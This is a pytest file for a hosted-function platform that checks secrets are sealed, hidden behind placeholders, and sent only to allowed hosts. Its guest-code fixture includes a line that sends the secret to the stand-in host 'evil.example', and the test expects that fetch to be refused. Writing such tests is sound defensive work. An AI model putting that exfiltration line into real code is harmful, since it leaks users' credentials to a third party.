"""An app's secrets and a function's allowed hosts, through the console API and through real runs
(contract.md, third round: "Hosted functions: secrets, outbound fetch, schedules"), on both
stores: a value is written once and never answered, kept sealed; a run holds placeholders only,
and the value reaches a real receiver only in a header value of a fetch to an allowed host,
whatever else the guest does with the placeholder (logs, result, a data API call, a URL, a
body); a deleted secret is gone for the next run."""

from __future__ import annotations

import json
import logging
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
import trio

from ledgerport import apps, catalog
from ledgerport.engine import FunctionRunner
from ledgerport.http import in_process_api
from ledgerport.platform import Platform
from ledgerport.runtime import RunLimits
from ledgerport.storage import Store

from ..receiver import receiving
from .data_api import Api, owner_api
from .test_function_runs import Functions, run_queued, runs
from .webhook_world import Console, console_for

TIMEOUT = 60
VALUE = "sk_live_51HsecretValueNeverSeen"
HANDLER = "export const handler = () => 1"


async def _console(client: Any, admin_headers: dict[str, str]) -> tuple[Api, Console]:
    api = await owner_api(client, admin_headers)
    return api, await console_for(client, admin_headers, api)


async def _error(console: Console, method: str, path: str, body: Any, status: int) -> Any:
    response = await console.call(method, path, body)
    assert response.status_code == status, await response.get_data(as_text=True)
    return await response.get_json()


# --- The secrets API -------------------------------------------------------------------------


async def test_a_secret_is_written_listed_replaced_and_deleted_never_answered(
    client: Any, admin_headers: dict[str, str], platform: Platform, store: Store
) -> None:
    with trio.fail_after(TIMEOUT):
        _, console = await _console(client, admin_headers)
        written = await console.ok("PUT", "/secrets/STRIPE_KEY", {"value": VALUE})
        await console.ok("PUT", "/secrets/A_FIRST", {"value": "a"})
        platform.clock.advance(5)  # type: ignore[attr-defined]
        replaced = await console.ok("PUT", "/secrets/STRIPE_KEY", {"value": VALUE + "2"})
        listed = await console.ok("GET", "/secrets")
        async with store.transaction() as tx:
            rows = await tx.fetch("SELECT app_id, name, value FROM app_secrets ORDER BY name")
        await console.ok("DELETE", "/secrets/STRIPE_KEY", status=204)
        after = await console.ok("GET", "/secrets")
        again = await _error(console, "DELETE", "/secrets/STRIPE_KEY", None, 404)
    assert written == {
        "name": "STRIPE_KEY",
        "createdAt": written["createdAt"],
        "updatedAt": written["createdAt"],
    }
    assert replaced["createdAt"] == written["createdAt"]
    assert replaced["updatedAt"] > written["updatedAt"]
    assert [s["name"] for s in listed["data"]] == ["A_FIRST", "STRIPE_KEY"]
    assert listed["next"] is None
    assert VALUE not in json.dumps([written, replaced, listed])
    # Sealed at rest, bound to the app and the name.
    stripe = rows[1]
    assert VALUE not in stripe["value"]
    sealed = apps.SealedSecret(stripe["app_id"], "STRIPE_KEY", stripe["value"])
    assert sealed.open(platform.keyring) == VALUE + "2"
    assert (
        apps.SealedSecret(stripe["app_id"], "A_FIRST", stripe["value"]).open(platform.keyring)
        is None
    )
    assert [s["name"] for s in after["data"]] == ["A_FIRST"]
    assert again["code"] == "SECRET_NOT_FOUND"
    assert again["message"] == "Secret STRIPE_KEY not found"


SECRET_REFUSALS = {
    "lower case": ("stripe_key", {"value": "v"}, "upper-case letter"),
    "digit first": ("1KEY", {"value": "v"}, "upper-case letter"),
    "too long a name": ("K" * 65, {"value": "v"}, "upper-case letter"),
    "empty value": ("KEY", {"value": ""}, "value"),
    "value too large": (
        "KEY",
        {"value": "é" * (catalog.SECRET_VALUE_MAX_BYTES // 2 + 1)},
        f"value must be at most {catalog.SECRET_VALUE_MAX_BYTES} bytes of UTF-8",
    ),
    "value not text": ("KEY", {"value": 42}, "value"),
    "no value": ("KEY", {}, "value"),
    "more fields": ("KEY", {"value": "v", "public": True}, "public"),
}


@pytest.mark.parametrize("case", sorted(SECRET_REFUSALS))
async def test_every_refused_secret_is_a_validation_400_without_its_value(
    client: Any, admin_headers: dict[str, str], case: str
) -> None:
    name, body, says = SECRET_REFUSALS[case]
    with trio.fail_after(TIMEOUT):
        _, console = await _console(client, admin_headers)
        error = await _error(console, "PUT", f"/secrets/{name}", body, 400)
        listed = await console.ok("GET", "/secrets")
    assert error["statusCode"] == 400
    assert says in json.dumps(error["message"])
    if isinstance(body.get("value"), str) and len(body["value"]) > 3:
        assert body["value"] not in json.dumps(error)
    assert listed["data"] == []


async def test_an_app_has_fifty_secrets_at_most(client: Any, admin_headers: dict[str, str]) -> None:
    with trio.fail_after(TIMEOUT):
        _, console = await _console(client, admin_headers)
        for n in range(catalog.SECRETS_PER_APP_MAX):
            await console.ok("PUT", f"/secrets/KEY_{n}", {"value": "v"})
        refused = await _error(console, "PUT", "/secrets/ONE_MORE", {"value": "v"}, 400)
        replaced = await console.ok("PUT", "/secrets/KEY_0", {"value": "w"})
    assert refused["message"] == [f"an app has at most {catalog.SECRETS_PER_APP_MAX} secrets"]
    assert replaced["name"] == "KEY_0"


async def test_another_developers_app_has_no_secrets_to_write(
    client: Any, admin_headers: dict[str, str]
) -> None:
    with trio.fail_after(TIMEOUT):
        _, mine = await _console(client, admin_headers)
        _, theirs = await _console(client, admin_headers)
        await mine.ok("PUT", "/secrets/KEY", {"value": VALUE})
        intruder = Console(theirs.client, theirs.token, mine.app_id)
        read = await _error(intruder, "GET", "/secrets", None, 404)
        write = await _error(intruder, "PUT", "/secrets/KEY", {"value": "x"}, 404)
        delete = await _error(intruder, "DELETE", "/secrets/KEY", None, 404)
    assert read["code"] == write["code"] == delete["code"] == "APP_NOT_FOUND"


# --- allowedHosts ------------------------------------------------------------------------------


async def test_allowed_hosts_are_kept_in_lower_case_and_answered(
    client: Any, admin_headers: dict[str, str]
) -> None:
    with trio.fail_after(TIMEOUT):
        _, console = await _console(client, admin_headers)
        put = await console.ok(
            "PUT",
            "/functions/sync",
            {
                "source": HANDLER,
                "events": [],
                "allowedHosts": ["API.Stripe.com", "*.Hubspot.com", "[2001:db8::1]", "203.0.113.7"],
            },
        )
        read = await console.ok("GET", "/functions/sync")
        cleared = await console.ok("PUT", "/functions/sync", {"source": HANDLER, "events": []})
    expected = ["api.stripe.com", "*.hubspot.com", "2001:db8::1", "203.0.113.7"]
    assert put["allowedHosts"] == read["allowedHosts"] == expected
    assert cleared["allowedHosts"] == []


HOST_REFUSALS = {
    "a path": (["api.example.com/v1"], "allowedHosts[0] must be a host name"),
    "a scheme": (["https://api.example.com"], "allowedHosts[0] must be a host name"),
    "a top-level wildcard": (["*.com"], "a domain of at least two labels"),
    "a wildcard inside": (["api.*.com"], "allowedHosts[0] must be a host name"),
    "a wildcard address": (["*.10.0.0.1"], "a domain of at least two labels"),
    "unicode": (["bücher.example"], "allowedHosts[0] must be a host name"),
    "twice": (["a.example", "A.example"], "allowedHosts must list each host once"),
    "21 hosts": (
        [f"h{n}.example" for n in range(21)],
        "allowedHosts must list at most 20 host names",
    ),
}


@pytest.mark.parametrize("case", sorted(HOST_REFUSALS))
async def test_every_refused_allowed_hosts_is_a_validation_400(
    client: Any, admin_headers: dict[str, str], case: str
) -> None:
    hosts, says = HOST_REFUSALS[case]
    with trio.fail_after(TIMEOUT):
        _, console = await _console(client, admin_headers)
        error = await _error(
            console,
            "PUT",
            "/functions/f",
            {"source": HANDLER, "events": [], "allowedHosts": hosts},
            400,
        )
        listed = await console.ok("GET", "/functions")
    assert any(says in message for message in error["message"]), error
    assert listed["data"] == []


# --- Through real runs ----------------------------------------------------------------------


@asynccontextmanager
async def fetching_world(
    client: Any, admin_headers: dict[str, str], app: Any, platform: Platform
) -> AsyncIterator[Functions]:
    api = await owner_api(client, admin_headers)
    console = await console_for(client, admin_headers, api)
    async with in_process_api(app, "http://localhost") as call:
        runner = FunctionRunner(platform, workers=1, limits=RunLimits(), api=call)
        async with runner.running():
            yield Functions(api, console, runner, runner.pool)


EVERYWHERE = """
export async function handler(event, context) {
  const key = context.secret("STRIPE_KEY");
  context.log("the key is", key);
  const base = "http://127.0.0.1:PORT";
  const answer = await context.fetch(base + "/charges?key=" + key, {
    method: "POST",
    headers: { Authorization: "Bearer " + key, "Content-Type": "application/json" },
    body: JSON.stringify({ key, amount: 5 }),
  });
  let refused;
  try {
    await context.fetch("https://evil.example/collect", { headers: { "X-Key": key } });
  } catch (error) { refused = error.message; }
  await context.api.post("/app-data", { values: [
    { resourceType: "invoice", resourceId: event.data.id, key: "note", value: key } ] });
  return { key, status: answer.status, echoed: answer.body, refused, text: String(key) };
}
"""


async def test_a_secret_reaches_the_allowed_host_only_in_a_header_and_nowhere_else(
    client: Any,
    admin_headers: dict[str, str],
    app: Any,
    platform: Platform,
    store: Store,
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    with trio.fail_after(TIMEOUT):
        async with (
            receiving() as receiver,
            fetching_world(client, admin_headers, app, platform) as world,
        ):
            await world.console.ok("PUT", "/secrets/STRIPE_KEY", {"value": VALUE})
            await world.console.ok(
                "POST",
                "/app-data-fields",
                {"resourceType": "invoice", "key": "note", "type": "TEXT"},
                201,
            )
            await world.console.ok(
                "PUT",
                "/functions/charge",
                {
                    "source": EVERYWHERE.replace("PORT", str(receiver.port)),
                    "events": ["invoice.created"],
                    "allowedHosts": ["127.0.0.1"],
                },
            )
            customer = await world.api.customer()
            invoice = await world.api.invoice(customer["id"])
            await run_queued(platform, world)
            (run,) = await runs(world, "charge")
            detail = await world.console.ok("GET", f"/functions/charge/runs/{run['id']}")
            data = await world.api.ok(
                "GET", f"/app-data?resourceType=invoice&resourceId={invoice['id']}"
            )
            (got,) = receiver.received
            async with store.transaction() as tx:
                kept = await tx.fetch("SELECT logs, result, error FROM function_runs")
                values = await tx.fetch("SELECT value FROM app_data_values")
    assert run["status"] == "succeeded", run
    key = run["result"]["key"]
    assert key.startswith("lpsecret_")
    assert run["result"]["text"] == key
    assert run["result"]["refused"] == (
        "context.fetch to evil.example: refused: the host is not in the function's allowedHosts"
    )
    # The receiver: the value in the header, the placeholder in the URL and the body.
    assert got.headers["authorization"] == f"Bearer {VALUE}"
    assert got.path == f"/charges?key={key}"
    assert json.loads(got.body) == {"key": key, "amount": 5}
    # Everywhere else, the placeholder.
    assert [v["value"] for v in data["data"]] == [key]
    assert detail["logs"][0]["message"] == f"the key is {key}"
    notes = [line["message"] for line in detail["logs"][1:]]
    assert notes[0].startswith("[ledgerport] fetch POST 127.0.0.1: 200 (")
    assert notes[1].startswith(
        "[ledgerport] fetch GET evil.example: refused: the host is not in the function's"
    )
    stored = json.dumps([dict(row) for row in kept] + [dict(row) for row in values])
    assert VALUE not in stored
    assert key in stored
    assert VALUE not in caplog.text
    assert VALUE not in json.dumps(detail)


async def test_placeholders_differ_between_runs_and_a_deleted_secret_is_gone_next_run(
    client: Any, admin_headers: dict[str, str], app: Any, platform: Platform
) -> None:
    source = """
    export function handler(event, context) {
      try { return context.secret("TOKEN"); } catch (error) { return error.message; }
    }
    """
    with trio.fail_after(TIMEOUT):
        async with fetching_world(client, admin_headers, app, platform) as world:
            await world.console.ok("PUT", "/secrets/TOKEN", {"value": VALUE})
            await world.console.ok("PUT", "/functions/peek", {"source": source, "events": []})
            first = await world.console.ok("POST", "/functions/peek/test", status=202)
            second = await world.console.ok("POST", "/functions/peek/test", status=202)
            await run_queued(platform, world)
            await world.console.ok("DELETE", "/secrets/TOKEN", status=204)
            third = await world.console.ok("POST", "/functions/peek/test", status=202)
            await run_queued(platform, world)
            results = {run["id"]: run["result"] for run in await runs(world, "peek")}
    one, two = results[first["runId"]], results[second["runId"]]
    assert one.startswith("lpsecret_")
    assert two.startswith("lpsecret_")
    assert one != two
    assert results[third["runId"]] == 'context.secret: the app has no secret named "TOKEN"'
